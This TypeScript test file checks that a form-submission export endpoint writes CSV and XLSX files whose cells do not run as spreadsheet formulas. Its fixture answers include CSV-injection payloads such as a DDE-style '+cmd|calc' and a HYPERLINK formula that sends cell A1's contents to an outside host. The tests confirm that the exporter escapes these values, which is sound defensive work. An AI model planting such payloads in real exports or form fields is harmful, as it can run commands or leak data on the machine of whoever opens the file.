import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { changeStoredForm, makeStoredForm } from '../../../testing/builders/make-stored-form.ts'
import { makeSubmission } from '../../../testing/builders/make-submission.ts'
import { makeUser } from '../../../testing/builders/make-user.ts'
import { LIBREOFFICE, openInSpreadsheet, type ShownCell } from '../../../testing/pdf/open-in-spreadsheet.ts'
import { startTestServer, type TestServer } from '../../../testing/servers/start-test-server.ts'

let server: TestServer
let formId: string
let token: string
beforeAll(async () => {
  server = await startTestServer()
  token = (await makeUser(server.db)).token
  formId = await makeHostile()
})
afterAll(() => server.close())

const LINES = 'প্রথম লাইন, "quoted"\n\n  third; 😀\tend'
const LINK = '=HYPERLINK("http://example.org/?"&A1,"click")'

const ANSWERS = {
  name: 'ড. রাহিমা খাতুন 🎓',
  roll: '007',
  nid: '19900123456789012',
  mobile: '01712345678',
  abroad: '+8801812345678',
  guests: -3,
  born: '1980-02-29',
  meals: ['f', 'b'],
  about: LINES,
  website: LINK,
  plus: '+cmd|calc',
  minus: '-2+3',
  at: '@SUM(1,2)',
  wide: '\u200b＝1+1;=1+1',
  old: 'Still here',
}

/** A form that has lost a field since, with answers that spreadsheets like to change or to run. */
async function makeHostile(): Promise<string> {
  const kept = [
    { id: 'name', label: 'নাম' },
    { id: 'roll', label: 'Roll' },
    { id: 'nid', label: 'National ID' },
    { id: 'mobile', label: 'Mobile', type: 'tel' as const },
    { id: 'abroad', label: 'Phone, abroad', type: 'tel' as const },
    { id: 'guests', label: 'Guests', type: 'number' as const },
    { id: 'born', label: 'Born', type: 'date' as const },
    {
      id: 'meals',
      label: 'Meals',
      type: 'checkbox' as const,
      options: [
        { value: 'f', label: 'ইলিশ' },
        { value: 'b', label: '=Beef' },
      ],
    },
    { id: 'about', label: '=About "you"', type: 'textarea' as const },
    { id: 'website', label: 'Website' },
    { id: 'plus', label: 'Plus' },
    { id: 'minus', label: 'Minus' },
    { id: 'at', label: 'At' },
    { id: 'wide', label: 'Wide' },
  ]
  const id = await makeStoredForm(server.db, {
    title: 'পুনর্মিলনী ২০২৭',
    fields: [...kept, { id: 'old', label: 'Old question' }],
  })
  await changeStoredForm(server.db, id, { title: 'পুনর্মিলনী ২০২৭', fields: kept })
  const { id: submissionId } = await makeSubmission(server.db, { id, version: 1 }, { data: ANSWERS })
  await sql`
    update submissions set created_at = '2026-11-14T20:00:00Z', updated_at = '2026-11-14T20:30:15Z',
      unique_id = '00000000000000000000000000001E10', payment_status = 'completed', has_payment = true,
      payment_method = 'bank_transfer', amount_paisa = 235050, payment_reference = 'K7P4XQP',
       admin_notes = '=1+1'
    where id = ${submissionId}`.execute(server.db)
  return id
}

async function download(format: 'csv' | 'xlsx'): Promise<Buffer> {
  const { statusCode, rawPayload } = await server.app.inject({
    url: `/api/export/submissions?${new URLSearchParams({ format, formId })}`,
    headers: { authorization: `Bearer ${token}` },
  })
  expect(statusCode).toBe(200)
  return rawPayload
}

/** The cell under each title. */
function byTitle([titles, row, ...rest]: ShownCell[][]): Record<string, ShownCell> {
  expect(rest).toEqual([])
  return Object.fromEntries(titles?.map(({ shown }, index) => [shown, row![index]!]) ?? [])
}
const shown = (cells: Record<string, ShownCell>) =>
  Object.fromEntries(Object.entries(cells).map(([title, cell]) => [title, cell.shown]))

const COLUMNS = 28
const ABOUT = {
  Form: 'পুনর্মিলনী ২০২৭',
  'Unique ID': '00000000000000000000000000001E10',
  Status: 'completed',
  'Submitted At': '2026-11-15 02:00:00',
  'Last Updated': '2026-11-15 02:30:15',
  Edited: 'No',
  'Payment Status': 'completed',
  'Payment Method': 'Bank transfer',
  'Amount (BDT)': '2350.5',
  'Transaction ID': '',
  'bKash Payment ID': '',
  'Payment Reference': 'K7P-4XQP',
}

describe.skipIf(LIBREOFFICE === null)('opened with LibreOffice (skipped where it is not installed)', () => {
  it('an XLSX file shows the exact answers, with numbers and dates as such', async () => {
    const cells = byTitle(await openInSpreadsheet(await download('xlsx'), { extension: 'xlsx' }))
    expect(shown(cells)).toEqual({
      ...ABOUT,
      'Admin Notes': '=1+1',
      নাম: ANSWERS.name,
      Roll: '007',
      'National ID': '19900123456789012',
      Mobile: '01712345678',
      'Phone, abroad': '+8801812345678',
      Guests: '-3',
      Born: '1980-02-29',
      Meals: 'ইলিশ, =Beef',
      '=About "you"': LINES,
      Website: LINK,
      Plus: '+cmd|calc',
      Minus: '-2+3',
      At: '@SUM(1,2)',
      Wide: ANSWERS.wide,
      'Old question': 'Still here',
    })
    expect(Object.keys(cells).filter((title) => cells[title]?.shown && !cells[title].isText)).toEqual([
      'Submitted At',
      'Last Updated',
      'Amount (BDT)',
      'Guests',
      'Born',
    ])
  })

  it('a CSV file imported as text keeps every cell, with leading zeros', async () => {
    const opened = await openInSpreadsheet(await download('csv'), {
      extension: 'csv',
      textColumns: COLUMNS,
    })
    expect(shown(byTitle(opened))).toEqual({
      ...ABOUT,
      'Admin Notes': "'=1+1",
      নাম: ANSWERS.name,
      Roll: '007',
      'National ID': '19900123456789012',
      Mobile: "'01712345678",
      'Phone, abroad': '01812345678',
      Guests: '-3',
      Born: '1980-02-29',
      Meals: 'ইলিশ, =Beef',
      '\'=About "you"': LINES,
      Website: `'${LINK}`,
      Plus: "'+cmd|calc",
      Minus: "'-2+3",
      At: "'@SUM(1,2)",
      Wide: "'＝1+1;=1+1",
      'Old question': 'Still here',
    })
  })

  it('a CSV file opened directly runs no formula, and shows phones as members write them', async () => {
    const cells = byTitle(await openInSpreadsheet(await download('csv'), { extension: 'csv' }))
    const text = (value: string): ShownCell => ({ shown: value, isText: true })
    expect(cells).toMatchObject({
      Form: text('পুনর্মিলনী ২০২৭'),
      'Admin Notes': text("'=1+1"),
      নাম: text(ANSWERS.name),
      Mobile: text("'01712345678"),
      '\'=About "you"': text(LINES),
      Website: text(`'${LINK}`),
      Plus: text("'+cmd|calc"),
      Minus: text("'-2+3"),
      At: text("'@SUM(1,2)"),
      Wide: text("'＝1+1;=1+1"),
      Guests: { shown: '-3', isText: false },
      Born: { shown: '1980-02-29', isText: false },
    })
  })
})
